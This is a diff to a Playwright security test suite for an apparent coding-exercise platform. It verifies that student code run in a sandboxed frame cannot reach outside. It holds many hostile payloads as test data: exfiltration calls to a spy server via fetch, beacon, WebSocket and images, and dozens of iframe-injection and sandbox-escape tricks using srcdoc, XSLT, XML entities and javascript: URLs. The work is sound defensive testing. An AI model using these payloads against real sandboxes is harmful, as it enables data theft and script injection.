@@ -1,6 +1,6 @@
 import { createServer, type Server } from 'node:http'
 import type { AddressInfo } from 'node:net'
-import type { Page } from '@playwright/test'
+import type { Page, Request } from '@playwright/test'
 import { enrollNewStudent } from './courses.ts'
 import { publishExercise } from './exercises.ts'
 import { expect, ready, test, thorough } from './test.ts'
@@ -23,6 +23,19 @@ test.beforeAll(async () => {
 test.afterAll(() => new Promise((resolve) => spy.close(resolve)))
 test.beforeEach(() => void received.splice(0))
 
+/** What the frame has asked the network for; `csp` is the browser's word for what its policy kept back. */
+function logFrameRequests(page: Page) {
+  const sent = new Map<Request, string>()
+  page.on('request', (request) => {
+    const { pathname, protocol, href } = new URL(request.url())
+    const isOfFrame = request.frame() !== page.mainFrame() && pathname !== '/exercise-frame'
+    if ((isOfFrame || href.startsWith(spyUrl)) && !['data:', 'blob:', 'about:'].includes(protocol))
+      sent.set(request, `${request.method()} ${href}`)
+  })
+  page.on('requestfailed', (request) => request.failure()?.errorText === 'csp' && sent.delete(request))
+  return () => [...sent.values()]
+}
+
 type Language = 'web' | 'javascript'
 const fileOf = { web: 'index.html', javascript: 'utama.js' }
 
@@ -40,18 +53,20 @@ async function runHostile(
   await enrollNewStudent(page, exercise.id)
   await page.goto(exercise.url)
   await ready(page)
+  const listSent = logFrameRequests(page)
   await page.getByRole('tab', { name: 'Kode' }).click()
   await page.getByRole('button', { name: 'Jalankan' }).click()
-  return exercise
+  return { url: exercise.url, listSent }
 }
 
-/** The page is as it was, and answers. */
-async function expectUnharmed(page: Page, url: string) {
+/** The page is as it was and answers, and neither an outside server nor the log of the network has anything from the frame. */
+async function expectUnharmed(page: Page, { url, listSent }: Awaited<ReturnType<typeof runHostile>>) {
   expect(new URL(page.url()).pathname + new URL(page.url()).search).toBe(url)
   await expect(page).toHaveTitle(/Latihan menjumlah/)
   await page.getByRole('tab', { name: 'Tugas' }).click()
   await expect(page.getByText('Jumlahkan dua angka.')).toBeVisible()
   expect(page.context().pages()).toHaveLength(1)
+  await expect.poll(listSent).toEqual([])
   expect(received).toEqual([])
 }
 
@@ -73,7 +88,7 @@ test(
     (async () => {
       ${attack('fetch', `await fetch('${spyUrl}/fetch')`)}
       ${attack('fetch situs', "await fetch('/api/me')")}
-      ${attack('beacon', `navigator.sendBeacon('${spyUrl}/beacon'); throw 0`)}
+      ${attack('beacon', `navigator.sendBeacon('${spyUrl}/beacon'); throw 'whether it was sent is seen outside'`)}
       ${attack('xhr', `const x = new XMLHttpRequest(); x.open('GET', '${spyUrl}/xhr', false); x.send()`)}
       ${attack('gambar', `await new Promise((a, b) => { const i = new Image(); i.onload = a; i.onerror = b; i.src = '${spyUrl}/gambar2' })`)}
       ${attack('soket', `await new Promise((a, b) => { const w = new WebSocket('${spyUrl.replace('http', 'ws')}/soket'); w.onopen = a; w.onerror = b })`)}
@@ -95,12 +110,44 @@ test(
       ${attack('jendela', `if (!window.open('${spyUrl}/jendela')) throw 0`)}
       for (const code of [() => f.submit(), () => a.click(), () => (top.location = '${spyUrl}/atas'), () => (document.domain = 'x'), () => alert(1), () => print()]) try { code() } catch {}
       parent.postMessage({ nonce: 'x', run: 1, message: { kind: 'done' } }, '*')
-      const bingkai = document.createElement('iframe'); bingkai.srcdoc = "<script>fetch('${spyUrl}/dalam').catch(() => {}); new Image().src='${spyUrl}/dalam2'</scr" + "ipt>"; document.body.append(bingkai)
+      const dalam = "<script>parent.postMessage('jalan ' + typeof RTCPeerConnection, '*'); fetch('${spyUrl}/dalam'); new Image().src = '${spyUrl}/dalam2'</scr" + "ipt>";
+      const bingkaiJs = "javascript:parent.postMessage('jalan', '*')";
+      const kutip = dalam.replaceAll('<', '&lt;').replaceAll('"', '&quot;');
+      const bingkai = () => document.body.appendChild(document.createElement('iframe'));
+      const buat = () => document.createElement('iframe');
+      addEventListener('message', ({ data }) => String(data).startsWith('jalan') && hasil.push('bingkai ' + data));
+      const xml = (teks) => new DOMParser().parseFromString(teks, 'text/xml');
+      for (const code of [
+        () => (bingkai().srcdoc = dalam),
+        () => bingkai().setAttribute('SRCDOC', dalam),
+        () => bingkai().setAttributeNS(null, 'srcdoc', dalam),
+        () => { const a = document.createAttribute('srcdoc'); a.value = dalam; bingkai().setAttributeNode(a) },
+        () => { const a = document.createAttribute('srcdoc'); bingkai().attributes.setNamedItem(a); a.value = dalam },
+        () => { const b = document.implementation.createHTMLDocument().createElement('iframe'); b.setAttribute('srcdoc', dalam); document.body.append(b) },
+        () => document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc="' + kutip + '"></iframe>'),
+        () => (document.body.appendChild(document.createElement('div')).innerHTML = '<iframe srcdoc="' + kutip + '"></iframe>'),
+        () => document.body.appendChild(document.createElement('div')).attachShadow({ mode: 'closed' }).setHTMLUnsafe('<iframe srcdoc="' + kutip + '"></iframe>'),
+        () => document.body.append(document.createRange().createContextualFragment('<iframe srcdoc="' + kutip + '"></iframe>')),
+        () => document.body.append(Document.parseHTMLUnsafe('<iframe srcdoc="' + kutip + '"></iframe>').querySelector('iframe')),
+        () => document.body.append(xml('<h:iframe xmlns:h="http://www.w3.org/1999/xhtml" srcdoc="' + kutip + '"/>').documentElement),
+        () => document.body.append(xml('<!DOCTYPE a [<!ENTITY e "<h:iframe xmlns:h=\\'http://www.w3.org/1999/xhtml\\' s&#114;cdoc=\\'' + kutip.replaceAll('&', '&#38;').replaceAll("'", '&#39;') + '\\'/>">]><a>&e;</a>').documentElement.firstChild),
+        () => { const p = new XSLTProcessor(); p.importStylesheet(xml('<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:template match="/"><iframe xmlns="http://www.w3.org/1999/xhtml"><x:attribute name="{concat(\\'src\\',\\'doc\\')}">' + kutip + '</x:attribute></iframe></x:template></x:stylesheet>')); document.body.append(p.transformToFragment(xml('<a/>'), document)) },
+        () => (bingkai().src = bingkaiJs),
+        () => { const b = buat(); b.src = bingkaiJs; document.body.append(b) },
+        () => (bingkai().src = 'data:text/html,' + dalam),
+        () => (bingkai().src = URL.createObjectURL(new Blob([dalam], { type: 'text/html' }))),
+        () => (bingkai().src = '/api/me'),
+        () => (bingkai().contentWindow.location = bingkaiJs),
+        () => hasil.push('bingkai kosong ' + typeof bingkai().contentWindow.RTCPeerConnection),
+        () => hasil.push('aturan ' + trustedTypes.createPolicy('lain', { createHTML: (a) => a })),
+      ]) try { code() } catch {}
+      // An inner frame that runs has answered by then.
+      for (let i = 0; i < 20; i++) await new Promise((a) => setTimeout(a, 20))
       const gaya = document.createElement('style'); gaya.textContent = "body { background: url(${spyUrl}/gaya2) }"; document.head.append(gaya)
       console.log('HASIL ' + hasil.join(','))
     })()
     </script></body></html>`
-    const { url } = await runHostile(page, request, 'web', html)
+    const run = await runHostile(page, request, 'web', html)
     const report = page.getByText(/^HASIL /)
     await expect(report).toBeVisible()
     const succeeded = (await report.innerText())
@@ -108,18 +155,18 @@ test(
       .split(',')
       .filter((name) => !name.endsWith('ditolak'))
     expect(succeeded).toEqual([])
-    await expectUnharmed(page, url)
+    await expectUnharmed(page, run)
   },
 )
 
 test('a page that navigates itself away is closed with a sentence', thorough, async ({ page, request }) => {
-  const { url } = await runHostile(
+  const run = await runHostile(
     page,
     request,
     'web',
     `<p>a</p><script>setTimeout(() => { location = '${spyUrl}/pergi' }, 100)</script>`,
   )
-  await expectUnharmed(page, url)
+  await expectUnharmed(page, run)
 })
 
 test('hostile code in a worker sends nothing and finds no token', thorough, async ({ page, request }) => {
@@ -133,9 +180,9 @@ test('hostile code in a worker sends nothing and finds no token', thorough, asyn
       fungsi() { new Function('return 1')() },
     })) try { coba(); hasil.push(nama) } catch {}
     fetch('${spyUrl}/fetch').then(() => console.log('BOCOR'), () => console.log('HASIL ' + hasil.join(',')))`
-  const { url } = await runHostile(page, request, 'javascript', code)
+  const run = await runHostile(page, request, 'javascript', code)
   await expect(page.getByText(/^HASIL\s*$/)).toBeVisible()
-  await expectUnharmed(page, url)
+  await expectUnharmed(page, run)
 })
 
 for (const [name, language, code, sentence] of [
@@ -182,7 +229,7 @@ for (const [name, language, code, sentence] of [
   ['broken HTML', 'web', '<<p><div </span><table><h1>Halo<script>', /1 dari 1|Semua 1 tes lulus/],
 ] as const)
   test(`${name} ends in a sentence`, thorough, async ({ page, request }) => {
-    const { url } = await runHostile(page, request, language, code)
+    const run = await runHostile(page, request, language, code)
     await expect(page.getByText(sentence).first()).toBeVisible({ timeout: 15_000 })
-    await expectUnharmed(page, url)
+    await expectUnharmed(page, run)
   })
